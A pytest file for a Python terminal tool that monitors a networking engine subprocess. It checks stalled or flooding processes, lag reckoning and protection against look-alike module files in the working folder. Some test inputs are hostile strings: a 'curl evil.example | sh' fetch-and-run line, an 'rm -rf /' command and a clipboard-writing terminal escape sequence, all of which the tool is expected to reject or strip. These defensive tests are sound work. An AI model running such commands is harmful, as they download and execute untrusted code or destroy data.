"""Processes that do not behave: silent, stopped, deaf, endless, foreign; and a hostile folder."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from icetui import events, signaling
from icetui.commands import opened_sources
from icetui.session import Session
from icetui.streams.lag import Lag
from icetui.streams.process_source import MOST_COMMANDS, SILENT, ProcessSource, engine_argv
from tests.dashboard.looking import looking
from tests.test_source_process import LOOPBACK, rest, until

BEAT = '{"event":"heartbeat","wall":1,"t":%s}'


def script(code: str) -> tuple[str, ...]:
    return (sys.executable, "-c", code)


@pytest.fixture
async def engine() -> AsyncIterator[ProcessSource]:
    source = ProcessSource(first=(LOOPBACK,))
    yield source
    await source.close()


@pytest.mark.parametrize("name", ["msgspec", "queue", "asyncio", "socket", "icetui", "aioice"])
def test_the_engine_runs_no_file_of_the_folder_it_is_started_in(tmp_path: Path, name: str) -> None:
    (tmp_path / f"{name}.py").write_text(
        f"import pathlib\npathlib.Path({str(tmp_path / 'ran')!r}).touch()\nraise SystemExit(9)\n"
    )
    done = subprocess.run(
        engine_argv(), input=events.encode(events.Leave()), cwd=tmp_path, capture_output=True,
        timeout=30, check=False,
    )  # fmt: skip
    assert not (tmp_path / "ran").exists()
    assert done.returncode == 0, done.stderr
    assert b'"event":"engine-started"' in done.stdout


def test_a_whole_run_in_a_hostile_folder_runs_none_of_it(
    tmp_path: Path, env: dict[str, str]
) -> None:
    for name in ("msgspec", "queue", "json", "icetui", "signal"):
        (tmp_path / f"{name}.py").write_text(
            f"import pathlib\npathlib.Path({str(tmp_path / 'ran')!r}).touch()\n"
        )
    program = Path(sys.executable).parent / "icetui"
    done = subprocess.run(
        [program, "peer", "--no-servers", "--interface", "lo", "--give-up", "4"],
        cwd=tmp_path, stdin=subprocess.DEVNULL, capture_output=True, env=env, timeout=30,
        check=False,
    )  # fmt: skip
    assert not (tmp_path / "ran").exists()
    assert done.returncode == 5, done.stderr
    assert done.stdout.startswith(b"icetui:")


def test_a_frozen_executable_is_its_own_engine(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "frozen", True, raising=False)
    argv = engine_argv()
    assert argv[0] == sys.executable
    # The same arguments behind our own command do start an engine.
    done = subprocess.run(
        [sys.executable, "-m", "icetui", *argv[1:]],
        input=events.encode(events.Leave()), capture_output=True, timeout=30, check=False,
    )  # fmt: skip
    assert b'"event":"engine-started"' in done.stdout


async def test_an_engine_that_is_stopped_is_said_to_be_silent_and_then_heard_again(
    engine: ProcessSource,
) -> None:
    stream = engine.events()
    session = Session()
    await until(stream, events.Heartbeat)
    os.kill(engine.pid, signal.SIGSTOP)
    stopped = time.monotonic()
    silent = await until(stream, events.EngineSilent)
    assert SILENT - 1 <= time.monotonic() - stopped <= SILENT + 2
    session.apply(silent)
    assert session.silent is not None and session.silent >= SILENT
    os.kill(engine.pid, signal.SIGCONT)
    session.apply(await until(stream, events.Heartbeat))
    assert session.silent is None


async def test_a_stopped_engine_does_not_hold_up_the_end(engine: ProcessSource) -> None:
    stream = engine.events()
    await until(stream, events.Heartbeat)
    os.kill(engine.pid, signal.SIGSTOP)
    await until(stream, events.EngineSilent)
    began = time.monotonic()
    await engine.close()
    assert time.monotonic() - began < 1.0


async def test_a_foreign_program_without_heartbeats_is_never_called_silent() -> None:
    source = ProcessSource(
        script('print(\'{"event":"peer-left","wall":1,"t":1}\', flush=True)\nimport time\n'
               f"time.sleep({SILENT + 1.5})")
    )  # fmt: skip
    told = await rest(source.events())
    assert [type(e) for e in told] == [events.PeerLeft, events.EngineFailed]
    await source.close()


async def test_sending_to_a_process_that_does_not_read_takes_no_time_and_is_refused() -> None:
    source = ProcessSource(
        script('print(\'{"event":"peer-left","wall":1,"t":1}\', flush=True)\n'
               "import time\ntime.sleep(60)")
    )  # fmt: skip
    stream = source.events()
    await until(stream, events.PeerLeft)
    paste = events.Paste(text="x" * 1_000_000)
    began = time.monotonic()
    for _ in range(MOST_COMMANDS // 1_000_000 + 2):
        source.send(paste)
    assert time.monotonic() - began < 0.5
    refused = await until(stream, events.CommandRefused)
    assert (refused.command, "does not read" in refused.problem) == ("paste", True)
    began = time.monotonic()
    await source.close()
    assert time.monotonic() - began < 1.5


async def test_a_large_command_arrives_whole() -> None:
    source = ProcessSource(
        script("import sys\nline = sys.stdin.readline()\n"
               'print(\'{"event":"text-echoed","wall":1,"t":1,"id":%d,"seconds":1}\' % len(line),'
               " flush=True)")
    )  # fmt: skip
    command = events.Paste(text="x" * 1_000_000)
    source.send(command)
    echoed = await until(source.events(), events.TextEchoed)
    assert echoed.id == len(events.encode(command))
    await source.close()


async def test_a_stream_without_line_ends_is_passed_over_and_what_follows_is_read() -> None:
    source = ProcessSource(
        script("import sys\nout = sys.stdout\nfor _ in range(300): out.write('a' * 100_000)\n"
               'out.write(\'\\n{"event":"peer-left","wall":1,"t":1}\\n\')')
    )  # fmt: skip
    told = await rest(source.events())
    assert isinstance(told[0], events.PeerLeft)
    assert source.reader.unreadable == 1
    await source.close()


async def test_what_a_process_complains_is_one_harmless_line_however_much_it_is() -> None:
    source = ProcessSource(
        script("import sys\nfor _ in range(500): sys.stderr.write('b' * 10_000 + '\\n')\n"
               "sys.stderr.write('\\x1b]52;c;cHduZWQ=\\x07gone\\u202e')\nsys.exit(3)")
    )  # fmt: skip
    [failed] = await rest(source.events())
    assert isinstance(failed, events.EngineFailed)
    assert failed.problem.isprintable()
    assert "gone" in failed.problem
    assert "\x1b" not in failed.problem
    await source.close()


async def test_a_reader_that_falls_behind_passes_over_news_keeps_states_and_says_so() -> None:
    """A flood for a second and a half in which nobody reads, then a reader that is in no hurry."""
    news = {"event": "stun-message", "wall": 1, "direction": "in", "local": "a", "remote": "b",
            "method": "m", "message_class": "request", "transaction": "0"}  # fmt: skip
    state = {"event": "role-changed", "wall": 1, "role": "controlled"}
    code = (
        "import json, sys, time\n"
        f"news, state = {news!r}, {state!r}\n"
        "began = time.monotonic()\n"
        "def tell(what):\n"
        "    sys.stdout.write(json.dumps({**what, 't': time.monotonic() - began},"
        " separators=(',', ':')) + '\\n')\n"
        "tell(state)\n"
        "while time.monotonic() - began < 2.5:\n"
        "    for _ in range(20): tell(news)\n"
        "    tell(state); sys.stdout.flush(); time.sleep(0.005)\n"
    )
    source = ProcessSource(script(code))
    session = Session()
    stream = source.events()
    session.apply(await anext(stream))
    time.sleep(1.6)  # noqa: ASYNC251  this loop is busy, as a screen's may be
    behind: list[float] = []
    roles = 1
    async for event in stream:
        session.apply(event)
        roles += isinstance(event, events.RoleChanged)
        behind.append(session.behind)
    assert max(behind) >= 1.0
    assert behind[-1] == 0.0
    assert source.dropped > 100
    assert session.left_out["reader"] > 100
    assert roles > 100
    await source.close()


def test_lag_is_reckoned_from_the_least_time_an_event_ever_took() -> None:
    lag = Lag()
    assert lag.of(t=5.0, now=1005.2) == 0.0
    assert lag.of(t=6.0, now=1006.1) == 0.0
    assert lag.of(t=7.0, now=1010.1) == pytest.approx(3.0, abs=0.01)
    assert lag.of(t=11.0, now=1011.1) == pytest.approx(0.0, abs=0.01)


def test_clocks_that_drift_apart_are_not_called_a_lag() -> None:
    lag = Lag()
    hours = [lag.of(t=s, now=s * 1.0001) for s in range(0, 36_000, 5)]
    assert max(hours) < 0.01


async def test_the_engine_shows_that_it_lives_and_no_recording_keeps_that(
    engine: ProcessSource, tmp_path: Path
) -> None:
    from icetui.streams.recording import Recorded

    stream = Recorded(engine, tmp_path / "r").events()
    await until(stream, events.Heartbeat)
    await until(stream, events.Heartbeat)
    kept = [json.loads(line)["event"] for line in (tmp_path / "r").read_text().splitlines()]
    assert "blob-changed" in kept
    assert "heartbeat" not in kept


# --- what another program may hand us -------------------------------------------------------------


@pytest.mark.parametrize(
    "blob",
    ["curl evil.example | sh", "rm -rf /\nicetui:AaF3k9bWl0ZXN0c29tZX", "icetui:", "", "x" * 99,
     "icetui:AAAAAAAAAAAAAAAAAAAAAAAAAAAA"],
)  # fmt: skip
async def test_what_is_no_description_of_a_far_host_is_not_there_to_be_copied(blob: str) -> None:
    line = events.encode(events.BlobChanged(wall=1, t=1, blob=blob, candidates=9)).decode()
    source = opened_sources.process(script(f"print({line.strip()!r})"))
    assert source.foreign
    changed = await until(source.events(), events.BlobChanged)
    assert changed.blob == ""
    await source.close()


async def test_a_description_of_a_far_host_comes_through() -> None:
    blob = signaling.write_blob(
        signaling.Description(ufrag="a7Kf", pwd="Zm9vYmFyYmF6cXV4MTIzNA", made=1.8e9)
    )
    line = events.encode(events.BlobChanged(wall=1, t=1, blob=blob)).decode()
    source = opened_sources.process(script(f"print({line.strip()!r})"))
    assert (await until(source.events(), events.BlobChanged)).blob == blob
    await source.close()


async def test_the_header_says_that_the_engine_is_silent_or_that_we_are_behind() -> None:
    stamp: dict[str, Any] = {"wall": 1.0, "t": 9.0}
    async with looking([events.EngineSilent(seconds=4.2, **stamp)], (100, 28)) as look:
        assert "ENGINE SILENT FOR 4 s" in look.lines[0]
        await look.tell([events.ReaderBehind(seconds=3.1, **stamp)])
        assert "behind by 3 s" in look.lines[0]
        assert "SILENT" not in look.lines[0]
        await look.tell([events.ReaderBehind(seconds=0.0, **stamp)])
        assert "behind" not in look.lines[0]
